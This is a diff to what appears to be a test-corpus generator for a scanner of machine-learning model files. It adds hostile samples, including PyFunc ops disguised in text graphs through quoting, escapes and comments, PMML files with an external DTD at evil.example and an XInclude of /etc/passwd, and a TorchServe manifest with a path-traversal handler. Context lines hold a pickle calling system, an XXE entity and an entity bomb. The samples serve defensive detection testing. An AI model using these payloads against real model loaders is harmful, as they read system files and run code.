@@ -207,6 +207,10 @@ def make_graphs(corpus):
     corpus.malicious("frozen.pb", "GraphDef", graph(*plain, node("z", "ReadFile")))
     corpus.malicious("model.meta", "MetaGraphDef", message((1, message((4, "x"))), (2, graph(*plain, node("z", "PyFunc")))))
     corpus.malicious("saved_model.pbtxt", "SavedModel as text", b'saved_model_schema_version: 1\nmeta_graphs { graph_def { node { name: "x" op: "PyFunc" } } }\n')
+    for name, text in {"other quotes": b"node { name: 'x' op: 'PyFunc' }", "a line break": b'node {\n op:\n "PyFunc" }', "two texts": b'node { op: "Py" "Func" }',
+                       "an escape": b'node { op: "Py\\x46unc" }', "a comment": b'node { op: # "Const"\n "PyFunc" }'}.items():
+        corpus.malicious("graph.pbtxt", f"GraphDef as text: {name}", text)
+    corpus.malicious("saved_model.pb", "SavedModel: a node without a name", saved(graph(*plain, message((2, "PyFunc")))))
     corpus.malicious("saved_model.pb", "SavedModel that is cut short", saved(graph(*plain, node("z", "WriteFile")))[:-4])
 
     lambdas = message((1, 1), (3, "root.layer-0"), (4, "_tf_keras_layer"), (5, json.dumps({"class_name": "Lambda", "config": {"function": ["4wEAAAA="]}})))
@@ -349,6 +353,9 @@ def make_documents(corpus):
     corpus.malicious("model.skops", "skops: a pickle instead", b"cos\nsystem\n(S'true'\ntR.")
     corpus.malicious("model.pmml", "PMML: an entity", b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4">&x;</PMML>')
     corpus.malicious("model.pmml", "PMML: a function of Java", b'<?xml version="1.0"?><PMML version="4.4"><DerivedField><Apply function="java.lang.Runtime.exec"/></DerivedField></PMML>')
+    corpus.malicious("model.pmml", "PMML: another document type", b'<?xml version="1.0"?><!DOCTYPE PMML SYSTEM "http://evil.example/x.dtd"><PMML/>')
+    corpus.malicious("model.pmml", "PMML: XInclude", b'<PMML xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></PMML>')
+    corpus.malicious("MANIFEST.json", "TorchServe: a handler elsewhere", json.dumps({"model": {"modelName": "m", "handler": "../../evil.py", "serializedFile": "x"}}).encode())
     corpus.malicious("model.xml", "XML: entities that grow", b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>')
     good = json.dumps({"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
     corpus.malicious("model.safetensors", "safetensors: a header that is too long", b"\xff" * 8 + good)
